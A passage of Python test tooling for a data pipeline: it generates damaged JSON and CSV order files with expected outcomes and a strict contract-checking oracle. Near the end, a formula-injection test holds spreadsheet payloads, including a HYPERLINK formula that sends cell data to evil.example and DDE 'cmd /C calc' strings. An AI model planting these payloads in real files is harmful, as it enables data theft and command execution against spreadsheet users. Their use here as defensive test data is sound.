"""A corpus of damaged input, each kind with the accounting a run must produce, and a strict oracle.

Two halves:

- **The corpus** (:func:`corpus`): one small file per kind of damage for QuickBite JSON and MealDash
  CSV (truncations, unbalanced quotes and brackets, wrong delimiters, BOMs, mixed line ends, NUL bytes,
  long lines, deep nesting, numbers out of range, cut gzip and JSON array files, encodings, ...). Valid
  records come from :mod:`feedguard.samples`; each damaged record is written next to enough valid ones
  that the file stays below the contract's ``intermittent_max_ratio`` (unless the kind is about the
  file). Each :class:`FaultKind` states what the run must report for its file: records read, valid,
  dead-lettered, blank lines skipped, the verdict, and every dead letter with its line and exact bytes.
- **The oracle** (:func:`strict_json_record`, :func:`strict_csv_record`): an independent, strict
  Python reading of one record against the contract YAML (``json.loads`` with duplicate-key detection
  and ``Decimal`` numbers; the ``csv`` module with ``strict=True`` plus RFC 4180's rule that a quote
  only appears in a quoted field). It returns the values a valid record must load as, or raises
  :class:`Rejected`. A loaded row must equal it; the job may dead-letter more than it rejects, never less.

Example::

    for kind in corpus("json"):
        (folder / kind.file_name).write_bytes(kind.data)
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import json
import random
import re
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any, Literal

import yaml

from feedguard.samples import MEALDASH_HEADER, _dumps, csv_line, mealdash_row, quickbite_order

ROOT = Path(__file__).resolve().parents[2]
CONTRACTS = {
    "json": ROOT / "contracts" / "quickbite" / "orders.v1.yaml",
    "csv": ROOT / "contracts" / "mealdash" / "orders.v1.yaml",
}
SOURCES = {"json": "quickbite", "csv": "mealdash"}
DAY = dt.date(2026, 11, 28)
VALID_PER_BAD = 5  # valid records written around each damaged one: the file stays intermittent
EDGE_VALID = 2  # valid records before the first and after the last damaged one
LONG_BYTES = 1 << 20  # a "very long line"
DEEP = 1_500  # nesting deeper than the default cap (limits.max_nesting_depth = 1000)
TOO_MANY_COLUMNS = 20_481 + 100  # above the default cap (limits.max_csv_columns = 20480)

Format = Literal["json", "csv"]


# --------------------------------------------------------------------------------------------------
# The oracle
# --------------------------------------------------------------------------------------------------


class Rejected(ValueError):
    """A record that the contract, read strictly, does not accept (the message says why)."""


@dataclass(frozen=True)
class Spec:
    """One contract field, read from the YAML without the project's own contract code."""

    name: str
    type: str
    required: bool = False
    minimum: float | None = None
    maximum: float | None = None
    allowed: tuple[str, ...] | None = None
    regex: str | None = None
    format: str | None = None
    fields: tuple[Spec, ...] = ()
    items: Spec | None = None


def _spec(raw: dict[str, Any]) -> Spec:
    return Spec(
        name=str(raw.get("name", "")),
        type=str(raw["type"]),
        required=bool(raw.get("required", False)),
        minimum=raw.get("min"),
        maximum=raw.get("max"),
        allowed=tuple(raw["allowed_values"]) if raw.get("allowed_values") is not None else None,
        regex=raw.get("regex"),
        format=raw.get("format"),
        fields=tuple(_spec(f) for f in raw.get("fields") or ()),
        items=_spec(raw["items"]) if raw.get("items") else None,
    )


def contract_specs(fmt: Format) -> tuple[Spec, ...]:
    """The fields of the format's contract (``contracts/<source>/orders.v1.yaml``)."""
    raw = yaml.safe_load(CONTRACTS[fmt].read_text(encoding="utf-8"))
    return tuple(_spec(f) for f in raw["fields"])


_DECIMAL = re.compile(r"^decimal\((\d+),\s*(\d+)\)$")
INT32 = (-(2**31), 2**31 - 1)
# The contract's timestamp formats, as regular expressions (Python's ``fromisoformat`` then checks the date).
JSON_TIMESTAMP = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(?:\.\d{1,3})?(?:Z|[+-]\d{2}:\d{2})$")
CSV_TIMESTAMP = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$")
# CSV text is all the type a CSV number has: blanks around it or a leading '+' do not change its value.
CSV_INTEGER = re.compile(r"^[ \t]*[+-]?[0-9]+[ \t]*$")
CSV_DECIMAL = re.compile(r"^[ \t]*[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)[ \t]*$")
SURROGATES = re.compile("[\ud800-\udfff]")
UTF8_BOM = b"\xef\xbb\xbf"
csv.field_size_limit(1 << 30)  # the corpus has fields of a MiB


@dataclass(frozen=True)
class JsonNumber:
    """A JSON number literal with a fraction or exponent, kept as its text."""

    text: str


def _fits_decimal(value: Decimal, kind: str, label: str) -> Decimal:
    precision, scale = (int(g) for g in _DECIMAL.match(kind).groups())  # type: ignore[union-attr]
    if not value.is_finite():
        raise Rejected(f"{label}: {value} is not a finite number")
    if value != value.quantize(Decimal(1).scaleb(-scale)):
        raise Rejected(f"{label}: {value} has more than {scale} decimal places")
    if abs(value) >= Decimal(10) ** (precision - scale):
        raise Rejected(f"{label}: {value} does not fit {kind}")
    return value


def _check_constraints(value: Any, spec: Spec, label: str) -> None:
    if spec.minimum is not None and value < spec.minimum:
        raise Rejected(f"{label}: {value!r} is below {spec.minimum}")
    if spec.maximum is not None and value > spec.maximum:
        raise Rejected(f"{label}: {value!r} is above {spec.maximum}")
    if spec.allowed is not None and value not in spec.allowed:
        raise Rejected(f"{label}: {value!r} is not allowed")
    if spec.regex is not None and not re.fullmatch(spec.regex, value):
        raise Rejected(f"{label}: {value!r} does not match {spec.regex}")


def _json_value(value: Any, spec: Spec, label: str) -> Any:
    """The value a JSON value of ``spec`` loads as (None for null/absent), or :class:`Rejected`."""
    if value is None:
        if spec.required:
            raise Rejected(f"{label}: required, got null or nothing")
        return None
    kind = spec.type
    if kind == "string":
        if not isinstance(value, str):
            raise Rejected(f"{label}: expected a JSON string, got {value!r}")
        typed: Any = value
    elif kind == "integer":
        if isinstance(value, bool) or not isinstance(value, int):
            raise Rejected(f"{label}: expected a JSON integer, got {value!r}")
        if not INT32[0] <= value <= INT32[1]:
            raise Rejected(f"{label}: {value} is out of the integer range")
        typed = value
    elif _DECIMAL.match(kind):
        if isinstance(value, bool) or not isinstance(value, int | JsonNumber):
            raise Rejected(f"{label}: expected a JSON number, got {value!r}")
        text = value.text if isinstance(value, JsonNumber) else str(value)
        if "e" in text.lower():
            raise Rejected(f"{label}: {text} has an exponent")
        typed = _fits_decimal(Decimal(text), kind, label)
    elif kind == "timestamp":
        if not isinstance(value, str) or not JSON_TIMESTAMP.match(value):
            raise Rejected(f"{label}: expected a timestamp string, got {value!r}")
        try:
            typed = dt.datetime.fromisoformat(value.replace("Z", "+00:00")).astimezone(dt.UTC)
        except ValueError as exc:
            raise Rejected(f"{label}: {value!r} is not a date and time") from exc
    elif kind == "array":
        if not isinstance(value, list):
            raise Rejected(f"{label}: expected a JSON array")
        if spec.required and not value:
            raise Rejected(f"{label}: required array is empty")
        assert spec.items is not None
        items = spec.items
        typed = [_json_value(v, items if v is not None else _required(items), f"{label}[]") for v in value]
    elif kind == "struct":
        if not isinstance(value, dict):
            raise Rejected(f"{label}: expected a JSON object")
        typed = _json_object(value, spec.fields, label)
    else:
        raise NotImplementedError(kind)
    if kind not in ("array", "struct"):
        _check_constraints(typed, spec, label)
    return typed


def _required(spec: Spec) -> Spec:
    """An array element is never NULL in the contract (its children are required)."""
    return Spec(spec.name, spec.type, True, fields=spec.fields, items=spec.items)


def _json_object(obj: dict[str, Any], specs: Sequence[Spec], label: str = "") -> dict[str, Any]:
    names = {s.name for s in specs}
    unknown = sorted(set(obj) - names)
    if unknown:
        raise Rejected(f"{label or 'record'}: keys not in the contract: {unknown}")
    prefix = f"{label}." if label else ""
    return {s.name: _json_value(obj.get(s.name), s, prefix + s.name) for s in specs}


def _no_duplicates(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
    counts = Counter(k for k, _ in pairs)
    repeated = sorted(k for k, n in counts.items() if n > 1)
    if repeated:
        raise Rejected(f"duplicate keys: {repeated}")
    return dict(pairs)


def _no_constant(name: str) -> Any:
    raise Rejected(f"{name} is not a JSON number")


def _no_surrogates(value: Any) -> None:
    if isinstance(value, str) and SURROGATES.search(value):
        raise Rejected(f"a lone surrogate in {value!r} is not a character")
    if isinstance(value, dict):
        for k, v in value.items():
            _no_surrogates(k)
            _no_surrogates(v)
    if isinstance(value, list):
        for v in value:
            _no_surrogates(v)


def _text(line: bytes) -> str:
    try:
        text = line.decode("utf-8")
    except UnicodeDecodeError as exc:
        raise Rejected(f"not UTF-8: {exc}") from exc
    if "\x00" in text:
        raise Rejected("a NUL character")
    return text


def strict_json_record(line: bytes, specs: Sequence[Spec]) -> dict[str, Any]:
    """The values a JSON Lines record loads as, read strictly; :class:`Rejected` when it must not load."""
    text = _text(line)
    try:
        value = json.loads(
            text, object_pairs_hook=_no_duplicates, parse_float=JsonNumber, parse_constant=_no_constant
        )
    except json.JSONDecodeError as exc:
        raise Rejected(f"not JSON: {exc}") from exc
    except RecursionError as exc:
        raise Rejected("nested too deeply") from exc
    if not isinstance(value, dict):
        raise Rejected("not a JSON object")
    _no_surrogates(value)
    return _json_object(value, specs)


def rfc4180_fields(text: str, delimiter: str = ",", quote: str = '"') -> list[tuple[str, bool]]:
    """(value, quoted) per field: ``csv`` with ``strict=True`` and no quote in an unquoted field."""
    try:
        rows = list(csv.reader([text], delimiter=delimiter, quotechar=quote, doublequote=True, strict=True))
    except csv.Error as exc:
        raise Rejected(f"not RFC 4180 CSV: {exc}") from exc
    if len(rows) != 1:
        raise Rejected("not one CSV row")
    raw = _raw_fields(text, delimiter, quote)
    if [value for value, _ in raw] != rows[0]:  # the two readers must agree
        raise Rejected(f"not RFC 4180 CSV: fields {raw} read as {rows[0]}")
    return raw


def _raw_fields(text: str, delimiter: str, quote: str) -> list[tuple[str, bool]]:
    d, q = re.escape(delimiter), re.escape(quote)
    field_re = re.compile(f"{q}((?:[^{q}]|{q}{q})*){q}(?={d}|$)|([^{q}{d}]*)(?={d}|$)")
    fields, position = [], 0
    while True:
        found = field_re.match(text, position)
        if found is None:
            raise Rejected(f"not RFC 4180 CSV: a quote out of place at {position}")
        quoted = found.group(1) is not None
        fields.append((found.group(1).replace(quote * 2, quote) if quoted else found.group(2), quoted))
        position = found.end()
        if position == len(text):
            return fields
        position += len(delimiter)


def _csv_value(text: str, spec: Spec) -> Any:
    if text == "":  # Spark reads an empty field, quoted or not, as NULL
        if spec.required:
            raise Rejected(f"{spec.name}: required, got an empty field")
        return None
    kind = spec.type
    if kind == "string":
        typed: Any = text
    elif kind == "integer":
        if not CSV_INTEGER.match(text):
            raise Rejected(f"{spec.name}: {text!r} is not an integer")
        typed = int(text)
        if not INT32[0] <= typed <= INT32[1]:
            raise Rejected(f"{spec.name}: {text} is out of the integer range")
    elif _DECIMAL.match(kind):
        if not CSV_DECIMAL.match(text):
            raise Rejected(f"{spec.name}: {text!r} is not a plain decimal number")
        try:
            typed = _fits_decimal(Decimal(text.strip(" \t")), kind, spec.name)
        except InvalidOperation as exc:
            raise Rejected(f"{spec.name}: {text!r}") from exc
    elif kind == "timestamp":
        if not CSV_TIMESTAMP.match(text):
            raise Rejected(f"{spec.name}: {text!r} is not yyyy-MM-dd HH:mm:ss")
        try:
            typed = dt.datetime.fromisoformat(text)
        except ValueError as exc:
            raise Rejected(f"{spec.name}: {text!r} is not a date and time") from exc
    else:
        raise NotImplementedError(kind)
    _check_constraints(typed, spec, spec.name)
    return typed


def strict_csv_record(line: bytes, specs: Sequence[Spec]) -> dict[str, Any]:
    """The values a MealDash CSV line loads as, read strictly; :class:`Rejected` when it must not load."""
    text = _text(line)
    if text.strip(" \t") == "":
        raise Rejected("a blank line is no record")
    fields = rfc4180_fields(text)
    if len(fields) != len(specs):
        raise Rejected(f"{len(fields)} fields, the contract has {len(specs)}")
    return {spec.name: _csv_value(value, spec) for spec, (value, _) in zip(specs, fields, strict=True)}


def strict_record(fmt: Format, line: bytes, specs: Sequence[Spec]) -> dict[str, Any]:
    return strict_json_record(line, specs) if fmt == "json" else strict_csv_record(line, specs)


def loaded_values(row: dict[str, Any], specs: Sequence[Spec]) -> dict[str, Any]:
    """A valid-table row (``Row.asDict(recursive=True)``) in the oracle's terms.

    Timestamps: PySpark hands them over as naive local times; JSON ones are compared in UTC, CSV ones
    (no zone in the format) as the naive wall-clock time they were written with.
    """
    return {s.name: _loaded(row.get(s.name), s) for s in specs}


def _loaded(value: Any, spec: Spec) -> Any:
    if value is None:
        return None
    if spec.type == "timestamp" and spec.format is None:
        return value.astimezone(dt.UTC)
    if spec.type == "array" and spec.items is not None:
        return [_loaded(v, spec.items) for v in value]
    if spec.type == "struct":
        return {c.name: _loaded(value.get(c.name), c) for c in spec.fields}
    return value


# --------------------------------------------------------------------------------------------------
# Physical lines, the way the text reader cuts them
# --------------------------------------------------------------------------------------------------

_TERMINATOR = re.compile(rb"\r\n|\n|\r")


def physical_lines(data: bytes) -> list[bytes]:
    """Lines ended by LF, CRLF or a lone CR (Hadoop's line reader); a final terminator ends no line."""
    lines = _TERMINATOR.split(data)
    if lines and lines[-1] == b"":
        lines.pop()
    return lines


# --------------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------------

VALID = "valid"
BLANK = "blank"
HEADER = "header"


@dataclass(frozen=True)
class DeadLetter:
    """One dead letter a kind must produce: line (element number in an array; None for a whole file)."""

    line: int | None
    raw: bytes | None
    error_type: str


@dataclass(frozen=True)
class FaultKind:
    """One kind of damage: a file and everything a run must report about it."""

    name: str
    fmt: Format
    description: str
    file_name: str
    data: bytes
    records_read: int
    records_valid: int
    blank_lines: int
    verdict: str
    dead_letters: tuple[DeadLetter, ...]
    layout: Literal["lines", "array", "file"] = "lines"
    # line (or element) -> exact bytes of each record that must load
    valid_records: dict[int, bytes] = field(default_factory=dict)
    # issue and item of a defect that is known and being fixed, when the job does not produce this yet
    known_defect: str | None = None

    @property
    def records_dead_lettered(self) -> int:
        return len(self.dead_letters)

    @property
    def dead_letter_types(self) -> dict[str, int]:
        return dict(sorted(Counter(d.error_type for d in self.dead_letters).items()))


@dataclass
class _Entry:
    raw: bytes
    outcome: str  # VALID, BLANK, HEADER or the dead letter's error type
    end: bytes = b"\n"


class _Records:
    """Valid records of one kind (unique order ids: each kind owns a block of 1,000)."""

    def __init__(self, fmt: Format, number: int) -> None:
        self.fmt = fmt
        self.rng = random.Random(9_000 + number)
        self.next_id = 7_000_000 // (10 if fmt == "csv" else 1) + number * 1_000 + 1

    def obj(self) -> dict[str, Any]:
        order = quickbite_order(self.rng, self.next_id, DAY)
        self.next_id += 1
        return order

    def row(self) -> list[str]:
        row = mealdash_row(self.rng, self.next_id, DAY)
        self.next_id += 1
        return row

    def line(self) -> str:
        return _dumps(self.obj()) if self.fmt == "json" else csv_line(self.row())

    def good(self, count: int) -> list[_Entry]:
        return [_Entry(self.line().encode(), VALID) for _ in range(count)]


def _b(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode("utf-8")


def _padded(records: _Records, bad: Sequence[_Entry]) -> list[_Entry]:
    """Each damaged entry after ``VALID_PER_BAD`` valid ones, with valid ones at both ends."""
    entries = records.good(EDGE_VALID)
    for entry in bad:
        entries += [*records.good(VALID_PER_BAD - 1), entry]
    return entries + records.good(EDGE_VALID)


def _lines_kind(
    name: str,
    fmt: Format,
    description: str,
    entries: Sequence[_Entry],
    *,
    suffix: str | None = None,
    final_end: bool = True,
    prefix: bytes = b"",
    verdict: str | None = None,
    known_defect: str | None = None,
    encode: Callable[[bytes], bytes] | None = None,
) -> FaultKind:
    """A file of physical lines (header first for CSV); line numbers count every physical line."""
    if fmt == "csv":
        entries = [_Entry(MEALDASH_HEADER.encode(), HEADER), *entries]
    body = b"".join(e.raw + e.end for e in entries)
    if not final_end and entries:
        body = body[: len(body) - len(entries[-1].end)]
    data = prefix + body
    dead, valid, blank, read = [], {}, 0, 0
    for number, entry in enumerate(entries, start=1):
        raw = prefix + entry.raw if number == 1 else entry.raw
        if entry.outcome == BLANK:
            blank += 1
        elif entry.outcome == VALID:
            read += 1
            valid[number] = raw
        elif entry.outcome != HEADER:
            read += 1
            dead.append(DeadLetter(number, raw, entry.outcome))
    if verdict is None:
        verdict = "intermittent_corruption" if dead else "clean"
    file_name = f"{name}{suffix or ('.jsonl' if fmt == 'json' else '.csv')}"
    return FaultKind(
        name,
        fmt,
        description,
        file_name,
        encode(data) if encode else data,
        read,
        len(valid),
        blank,
        verdict,
        tuple(dead),
        valid_records=valid,
        known_defect=known_defect,
    )


def _damaged(
    name: str,
    fmt: Format,
    number: int,
    description: str,
    bad: Callable[[_Records], Iterable[tuple[str | bytes, str]]],
    **options: Any,
) -> FaultKind:
    """Valid records with the damaged lines ``bad`` returns, each as ``(line, error type)``."""
    records = _Records(fmt, number)
    entries = [_Entry(_b(line), kind) for line, kind in bad(records)]
    return _lines_kind(name, fmt, description, _padded(records, entries), **options)


def _file_kind(name: str, fmt: Format, description: str, file_name: str, data: bytes) -> FaultKind:
    """A file the driver cannot read: quarantined whole, one file-level dead letter."""
    return FaultKind(
        name,
        fmt,
        description,
        file_name,
        data,
        records_read=1,
        records_valid=0,
        blank_lines=0,
        verdict="file_corrupt",
        dead_letters=(DeadLetter(None, None, "file_corrupt"),),
        layout="file",
    )


def _cut(text: str, keep: float = 0.5) -> str:
    return text[: int(len(text) * keep)]


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _garbage(seed: int, size: int = 8_192) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(size))


# --- JSON kinds ---------------------------------------------------------------------------------------


def _json_kinds() -> list[FaultKind]:
    kinds: list[FaultKind] = []
    add = kinds.append
    j: Format = "json"

    def with_value(records: _Records, key: str, raw_value: str) -> str:
        """A record whose ``key`` holds ``raw_value`` written as is (JSON text)."""
        text = _dumps(records.obj())
        return re.sub(f'"{key}":("[^"]*"|[^,}}\\]]*)', lambda _: f'"{key}":{raw_value}', text, count=1)

    add(
        _damaged(
            "json_truncated_record",
            j,
            1,
            "a record cut in the middle",
            lambda r: [(_cut(r.line()), "malformed_json"), (_cut(r.line(), 0.9), "malformed_json")],
        )
    )
    add(_json_truncated_file())
    add(
        _damaged(
            "json_unbalanced_brackets",
            j,
            3,
            "a missing ']' and an extra '}' and ']'",
            lambda r: [
                (r.line().replace("]", "", 1), "malformed_json"),
                (r.line() + "}", "malformed_json"),
                (r.line().replace("}]", "}]]", 1), "malformed_json"),
            ],
        )
    )
    add(
        _damaged(
            "json_unbalanced_quote",
            j,
            4,
            "a string value without its closing quote",
            lambda r: [(r.line().replace('","customer_id"', ',"customer_id"', 1), "malformed_json")],
        )
    )
    add(
        _lines_kind(
            "json_utf8_bom",
            j,
            "a UTF-8 byte-order mark before the first record",
            _Records(j, 5).good(6),
            prefix=b"\xef\xbb\xbf",
        )
    )
    add(_mixed_line_ends(j, 6))
    add(
        _damaged(
            "json_nul_bytes",
            j,
            7,
            "NUL inside a string and between tokens",
            lambda r: [
                (
                    r.line().replace("Berlin", "Ber\x00lin").replace('"city":', '"city":\x00'),
                    "encoding_error",
                ),
                (r.line()[:-1] + ',"city":"x\x00"}', "encoding_error"),
            ],
        )
    )
    add(
        _damaged(
            "json_very_long_line",
            j,
            8,
            "a 1 MiB line that never closes its string",
            lambda r: [('{"order_id":"QB-00000001","note":"' + "x" * LONG_BYTES, "malformed_json")],
        )
    )
    add(_json_long_valid(9))
    add(
        _damaged(
            "json_deep_nesting",
            j,
            10,
            f"values nested {DEEP} levels deep",
            lambda r: [
                (with_value(r, "tip", "[" * DEEP + "1" + "]" * DEEP), "too_deeply_nested"),
                ('{"order_id":' + '{"a":' * DEEP + "1" + "}" * DEEP + "}", "too_deeply_nested"),
            ],
        )
    )
    add(
        _damaged(
            "json_numbers_beyond_range",
            j,
            11,
            "integers and decimals that do not fit their type",
            lambda r: [
                (_set_first_qty(r, "2147483648"), "type_mismatch"),
                (with_value(r, "subtotal", "123456789.00"), "type_mismatch"),
                (with_value(r, "total", "1e400"), "type_mismatch"),
                (with_value(r, "tip", "-0.5"), "constraint_violation"),
            ],
        )
    )
    add(
        _damaged(
            "json_over_precise_decimals",
            j,
            12,
            "more decimal places than the scale, an exponent",
            lambda r: [
                (_set_first_price(r, "17.884"), "type_mismatch"),
                (with_value(r, "subtotal", "1e1"), "type_mismatch"),
            ],
        )
    )
    add(_lines_kind("json_empty_file", j, "a file of zero bytes", []))
    add(
        _lines_kind(
            "json_blank_lines_only",
            j,
            "only empty lines",
            [_Entry(b"", BLANK), _Entry(b"", BLANK), _Entry(b"", BLANK)],
        )
    )
    add(
        _damaged(
            "json_whitespace_lines",
            j,
            13,
            "lines of spaces and tabs between records",
            lambda r: [(b"   ", BLANK), (b"\t \t", BLANK)],
        )
    )
    records = _Records(j, 14)
    text = "".join(r.raw.decode() + "\n" for r in records.good(40))
    add(
        _file_kind(
            "json_cut_gzip",
            j,
            "a gzip file cut in half",
            "json_cut_gzip.jsonl.gz",
            _gzip(text.encode())[: len(_gzip(text.encode())) // 2],
        )
    )
    add(_concatenated_gzip(j, 15))
    add(_gzip_without_suffix(16))
    add(_json_array("json_array_cut", 17, cut=True))
    add(_json_array("json_array_trailing_content", 18, trailing=True))
    add(_json_array("json_array_empty_element", 19, empty_element=True))
    add(_json_array("json_array_bad_element", 20, bad_element=True))
    add(_json_array_unbalanced(33))
    add(_file_kind("json_binary_garbage", j, "random bytes", "json_binary_garbage.json", _garbage(21)))
    add(
        _damaged(
            "json_duplicate_keys",
            j,
            22,
            "a key repeated at top level and inside an item",
            lambda r: [
                (r.line()[:-1] + ',"status":"delivered"}', "duplicate_key"),
                (r.line().replace('"qty":', '"qty":1,"qty":', 1), "duplicate_key"),
            ],
        )
    )
    add(
        _damaged(
            "json_windows_1252_bytes",
            j,
            23,
            "Windows-1252 bytes (0xF6, 0x80) inside strings",
            lambda r: [
                (
                    r.line().encode().replace(b"Berlin", b"K\xf6ln").replace(b'"city":"', b'"city":"\x80', 1),
                    "encoding_error",
                )
            ],
        )
    )
    records = _Records(j, 24)
    add(
        _file_kind(
            "json_utf16_bom",
            j,
            "UTF-16LE with a BOM where the contract says UTF-8",
            "json_utf16_bom.jsonl",
            b"\xff\xfe" + "".join(e.raw.decode() + "\n" for e in records.good(6)).encode("utf-16-le"),
        )
    )
    add(_formula_injection(j, 25))
    add(
        _damaged(
            "json_not_an_object",
            j,
            26,
            "top-level arrays, strings, numbers and null",
            lambda r: [
                ("[1,2]", "not_an_object"),
                ('"text"', "not_an_object"),
                ("42", "not_an_object"),
                ("null", "not_an_object"),
            ],
        )
    )
    add(
        _damaged(
            "json_wrong_json_types",
            j,
            27,
            "number for a string, string for a number, object for a string, epoch seconds for a timestamp",
            lambda r: [
                (with_value(r, "city", "123"), "type_mismatch"),
                (with_value(r, "subtotal", '"12.50"'), "type_mismatch"),
                (with_value(r, "ordered_at", "1795000000"), "type_mismatch"),
                (with_value(r, "restaurant_id", '{"id":"R0001"}'), "type_mismatch"),
            ],
        )
    )
    add(
        _damaged(
            "json_nested_unknown_key",
            j,
            28,
            "an item with a key the contract does not have",
            lambda r: [(r.line().replace('"qty":', '"discount":5,"qty":', 1), "unexpected_field")],
        )
    )
    add(
        _damaged(
            "json_regex_anchor_newline",
            j,
            29,
            "an order id followed by an escaped newline or CR",
            lambda r: [
                (r.line().replace('","customer_id"', '\\n","customer_id"', 1), "constraint_violation"),
                (r.line().replace('","customer_id"', '\\r","customer_id"', 1), "constraint_violation"),
            ],
        )
    )
    add(
        _damaged(
            "json_lone_surrogate",
            j,
            30,
            "a \\ud800 escape that is no character",
            lambda r: [(r.line().replace('"city":"', '"city":"\\ud800', 1), "encoding_error")],
        )
    )
    add(
        _damaged(
            "json_non_standard_syntax",
            j,
            31,
            "single quotes, comments, NaN, leading zeros, raw tab in a string",
            lambda r: [
                (r.line().replace('"', "'"), "malformed_json"),
                ("/* c */" + r.line(), "malformed_json"),
                (with_value(r, "tip", "NaN"), "type_mismatch"),
                (_set_first_qty(r, "01"), "malformed_json"),
                (r.line().replace('"city":"', '"city":"\t', 1), "malformed_json"),
            ],
        )
    )
    add(_escapes_kind(32))
    return kinds


def _set_first_qty(records: _Records, value: str) -> str:
    return re.sub(r'"qty":\d+', f'"qty":{value}', records.line(), count=1)


def _set_first_price(records: _Records, value: str) -> str:
    return re.sub(r'"price":[0-9.]+', f'"price":{value}', records.line(), count=1)


def _json_truncated_file() -> FaultKind:
    records = _Records("json", 2)
    cut = _Entry(_cut(records.line(), 0.7).encode(), "malformed_json")
    return _lines_kind(
        "json_truncated_file",
        "json",
        "the last record cut, no final newline",
        [*records.good(8), cut],
        final_end=False,
    )


def _mixed_line_ends(fmt: Format, number: int) -> FaultKind:
    records = _Records(fmt, number)
    entries = records.good(9)
    for entry, end in zip(
        entries, [b"\r\n", b"\n", b"\r", b"\n", b"\r\n", b"\r", b"\r\n", b"\n", b"\r"], strict=True
    ):
        entry.end = end
    name = f"{fmt}_mixed_line_ends"
    return _lines_kind(name, fmt, "CRLF, LF and lone CR line ends in one file (lone CR ends a line)", entries)


def _json_long_valid(number: int) -> FaultKind:
    records = _Records("json", number)
    obj = records.obj()
    obj["city"] = "Berlin-" + "ü" * (LONG_BYTES // 2)
    entries = [*records.good(2), _Entry(_dumps(obj).encode(), VALID), *records.good(2)]
    return _lines_kind("json_very_long_valid_line", "json", "a valid record with a 1 MiB city name", entries)


def _concatenated_gzip(fmt: Format, number: int) -> FaultKind:
    records = _Records(fmt, number)
    entries = records.good(8)
    if fmt == "csv":
        entries = [_Entry(MEALDASH_HEADER.encode(), HEADER), *entries]
    first = b"".join(e.raw + b"\n" for e in entries[:4])
    second = b"".join(e.raw + b"\n" for e in entries[4:])
    kind = _lines_kind(
        f"{fmt}_concatenated_gzip",
        fmt,
        "two gzip members one after the other (one stream)",
        records_only(entries, fmt),
        suffix=".jsonl.gz" if fmt == "json" else ".csv.gz",
    )
    return _replace_data(kind, _gzip(first) + _gzip(second))


def records_only(entries: list[_Entry], fmt: Format) -> list[_Entry]:
    """Entries without the header (``_lines_kind`` adds it for CSV)."""
    return [e for e in entries if e.outcome != HEADER]


def _replace_data(kind: FaultKind, data: bytes) -> FaultKind:
    values = {f: getattr(kind, f) for f in kind.__dataclass_fields__}
    values["data"] = data
    return FaultKind(**values)


def _gzip_without_suffix(number: int) -> FaultKind:
    records = _Records("json", number)
    kind = _lines_kind(
        "json_gzip_named_jsonl", "json", "gzip content in a file named .jsonl", records.good(6)
    )
    return _replace_data(kind, _gzip(kind.data))


def _json_array(
    name: str,
    number: int,
    *,
    cut: bool = False,
    trailing: bool = False,
    empty_element: bool = False,
    bad_element: bool = False,
) -> FaultKind:
    """A pretty-printed JSON array document; records are elements, numbered from 1."""
    records = _Records("json", number)
    elements = [records.line() for _ in range(12)]
    pieces = [(e.encode(), VALID) for e in elements]
    dead: list[DeadLetter] = []
    description = ""
    if bad_element:
        pieces[5] = (b'{"order_id":"QB-1" "items":[1,2]}', "malformed_json")
        description = "an element with a missing comma between valid ones"
    body = b"[\n" + b",\n".join(b"  " + p for p, _ in pieces) + b"\n]\n"
    if empty_element:
        body = body.replace(b",\n  " + pieces[6][0], b",\n  ,\n  " + pieces[6][0], 1)
        description = "an empty element between two commas"
    if trailing:
        body += b'{"order_id":"QB-00000001"}\n'
        description = "content after the closing ']'"
    if cut:
        start = body.index(pieces[9][0])
        body = body[: start + len(pieces[9][0]) // 2]
        description = "an array document cut inside its tenth element"
    valid: dict[int, bytes] = {}
    number_of = 0
    for index, (raw, outcome) in enumerate(pieces, start=1):
        if cut and index > 10:
            break
        number_of += 1
        if cut and index == 10:
            dead.append(DeadLetter(number_of, raw[: len(raw) // 2], "malformed_json"))
        elif outcome == VALID:
            valid[number_of] = raw
        else:
            dead.append(DeadLetter(number_of, raw, outcome))
        if empty_element and index == 6:
            number_of += 1
            dead.append(DeadLetter(number_of, b",", "malformed_json"))
    if trailing:
        dead.append(DeadLetter(number_of + 1, b'{"order_id":"QB-00000001"}', "malformed_json"))
    return FaultKind(
        name,
        "json",
        description,
        f"{name}.json",
        body,
        records_read=len(valid) + len(dead),
        records_valid=len(valid),
        blank_lines=0,
        verdict="intermittent_corruption",
        dead_letters=tuple(dead),
        layout="array",
        valid_records=valid,
    )


def _json_array_unbalanced(number: int) -> FaultKind:
    """An element whose brackets never balance: the rest of the document is one record (no safe resync)."""
    records = _Records("json", number)
    elements = [records.line().encode() for _ in range(12)]
    elements[5] = b'{"order_id":"QB-1", "items":[1,2}'
    body = b"[\n" + b",\n".join(b"  " + e for e in elements) + b"\n]\n"
    rest = body[body.index(elements[5]) :].rstrip()
    return FaultKind(
        "json_array_unbalanced_element",
        "json",
        "an element whose brackets never balance: it runs to the end of the document",
        "json_array_unbalanced_element.json",
        body,
        records_read=6,
        records_valid=5,
        blank_lines=0,
        verdict="intermittent_corruption",
        dead_letters=(DeadLetter(6, rest, "malformed_json"),),
        layout="array",
        valid_records={n: e for n, e in enumerate(elements[:5], start=1)},
    )


def _formula_injection(fmt: Format, number: int) -> FaultKind:
    """Values a spreadsheet would run as formulas: valid data, loaded exactly as written."""
    records = _Records(fmt, number)
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    entries = []
    for payload in payloads:
        if fmt == "json":
            obj = records.obj()
            obj["city"] = payload
            entries.append(_Entry(_dumps(obj).encode(), VALID))
        else:
            row = records.row()
            row[1] = payload
            if "\r" in payload:  # a CR would end the line: keep it out of CSV
                continue
            entries.append(
                _Entry(
                    csv_line(row).encode() if '"' in payload or "," in payload else _csv_quoted(row), VALID
                )
            )
    return _lines_kind(
        f"{fmt}_formula_injection",
        fmt,
